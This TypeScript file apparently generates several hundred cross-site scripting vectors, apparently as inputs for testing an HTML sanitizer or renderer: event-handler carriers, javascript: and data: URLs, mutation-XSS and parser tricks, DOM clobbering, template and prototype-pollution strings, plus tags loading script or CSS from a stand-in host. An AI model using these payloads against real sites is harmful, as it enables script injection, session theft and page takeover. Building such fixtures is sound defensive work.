/** What a vector calls when it gets to run. */
export const alarm = 'pwned';
const run = `${alarm}(1)`;

const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onanimationstart', 'onbegin'];
/** Elements that set one of the handlers off by themselves, or that parsers treat in a way of their own. */
const carriers: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}=${run}>`,
  (handler) => `<img src="x" ${handler}="${run}" />`,
  (handler) => `<svg ${handler}=${run}>`,
  (handler) => `<svg><animate attributeName=x dur=1s ${handler}=${run}></svg>`,
  (handler) => `<details open ${handler}=${run}>x</details>`,
  (handler) => `<input autofocus ${handler}=${run}>`,
  (handler) => `<video ${handler}=${run}><source src=x ${handler}=${run}></video>`,
  (handler) => `<body ${handler}=${run}>`,
  (handler) => `<p style="animation:x" ${handler}='${run}'>x</p>`,
  (handler) => `<a href="/main" ${handler}="${run}" autofocus tabindex=1>x</a>`,
  (handler) => `<table background=x ${handler}=${run}><td ${handler}=${run}>x</table>`,
  (handler) => `<x contenteditable ${handler}=${run}>x</x>`,
  (handler) => `<iMg SrC=x ${handler.toUpperCase()}=${run}>`,
  (handler) => `<img/src=x/${handler}=${run}>`,
  (handler) => `<img src=x\n${handler}\n=\n${run}>`,
  (handler) => `<img src=x ${handler}=&#112;wned(1)>`,
  (handler) => `"><img src=x ${handler}=${run}>`,
  (handler) => `'-alert(1)-'<img src=x ${handler}=${run}>`,
  (handler) => `<<img src=x ${handler}=${run}>>`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java&#10;script:${run}`,
  `java&Tab;script:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript&colon;${run}`,
  `javascript&#58;${run}`,
  `\u0001javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `//evil.example/x`,
  `https:evil.example`,
  `\\\\evil.example/x`,
  `/\\evil.example/x`,
];
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_blank>x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<img srcset="${address} 1x">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<p style="background:url('${address}')">x</p>`,
  (address) => `[x](${address})`,
  (address) => address,
];

/** Those that live by how markup is parsed twice, or by what is not markup at all. */
const odd = [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<style>@import'//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mi><style><img src=x onerror=${run}></style></mi></math>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<a id=location href="javascript:${run}">x</a>`,
  `<img name=body><img name=getElementById><form id=documentElement>`,
  `<input name=attributes><input name=childNodes>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<keygen autofocus onfocus=${run}>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `<\u0131mg src=x onerror=${run}>`,
  `<img src=x onerror\u00a0=${run}>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `';${run}//`,
  `";${run}//`,
  `\u202e<img src=x onerror=${run}>\u202c`,
  `안녕<b onmouseover=${run}>하세요</b> \ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66 \uac01`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  `=HYPERLINK("javascript:${run}")`,
];

/** Several hundred ways to have a text run as a program, load something or take over the page. */
export const vectors: readonly string[] = [
  ...handlers.flatMap((handler) => carriers.map((carry) => carry(handler))),
  ...addresses.flatMap((address) => places.map((place) => place(address))),
  ...odd,
];

/** The vectors one after the other, in texts of at most `length` characters. */
export function textsOf(length: number): string[] {
  const texts: string[] = [];
  for (const vector of vectors) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + vector.length <= length) texts[texts.length - 1] = `${last}\n${vector}`;
    else texts.push(vector);
  }
  return texts;
}
